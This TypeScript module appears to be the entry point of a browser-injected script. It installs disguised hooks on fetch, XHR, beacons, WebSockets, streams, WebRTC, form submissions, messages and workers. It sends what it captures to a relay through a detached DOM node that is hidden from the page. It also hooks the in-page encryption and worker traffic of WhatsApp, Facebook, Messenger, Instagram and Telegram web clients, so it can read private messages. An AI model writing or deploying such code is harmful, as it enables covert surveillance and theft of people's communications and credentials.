import { hookBeacon } from './hooks/beacon.ts';
import { hookTransportEncryption } from './hooks/crypto.ts';
import { disguise } from './hooks/disguise.ts';
import { hookFetch } from './hooks/fetch.ts';
import { hookForms } from './hooks/form.ts';
import { whenOpened } from './hooks/listeners.ts';
import { hookMessages } from './hooks/messages.ts';
import * as native from './hooks/natives.ts';
import { hookRealms } from './hooks/realms.ts';
import { hookStreams } from './hooks/streams.ts';
import { hookWebRtc } from './hooks/webrtc.ts';
import { hookWebSocket } from './hooks/websocket.ts';
import { hookWorkerBridge } from './hooks/worker-bridge.ts';
import { hookWorkers } from './hooks/workers.ts';
import { hookXhr } from './hooks/xhr.ts';
import { HELLO, OPENED, RECORDS } from './page-events.ts';
import { createRecorder } from './recorder.ts';

/** Apps that encrypt their own transport in the page. */
const OWN_TRANSPORT = ['web.whatsapp.com', 'www.facebook.com', 'www.messenger.com', 'www.instagram.com'];
/** Apps that talk through a worker of their own in a shape that is known. */
const OWN_WORKER = [...OWN_TRANSPORT, 'web.telegram.org', 'webk.telegram.org', 'webz.telegram.org'];

/**
 * Installs the hooks in this frame. What they see goes to the relay through a node that is in no document:
 * synchronous, and out of the page's hearing.
 */
export function watchPage(): void {
  const node = native.createElement(document, 'i');
  const hello = new native.MouseEventOf(HELLO, { relatedTarget: node });
  native.dispatch(window, hello);
  const context = window.top === window ? 'page' : 'frame';
  const init = native.createObject<CustomEventInit>(null);
  const recorder = createRecorder(context, (text) => {
    init.detail = text;
    native.dispatch(node, new native.CustomEventOf(RECORDS, init));
  });
  whenOpened(() => native.dispatch(node, new native.EventOf(OPENED)));
  const kin = disguise();
  hookRealms(kin);
  hookFetch(recorder);
  hookXhr(recorder);
  hookBeacon(recorder);
  hookWebSocket(recorder);
  hookStreams(recorder);
  hookWebRtc(recorder);
  hookForms(recorder);
  hookMessages(recorder);
  hookWorkers(recorder);
  const { hostname } = location;
  if (OWN_TRANSPORT.includes(hostname)) hookTransportEncryption(recorder);
  if (OWN_WORKER.includes(hostname)) hookWorkerBridge(recorder);
}
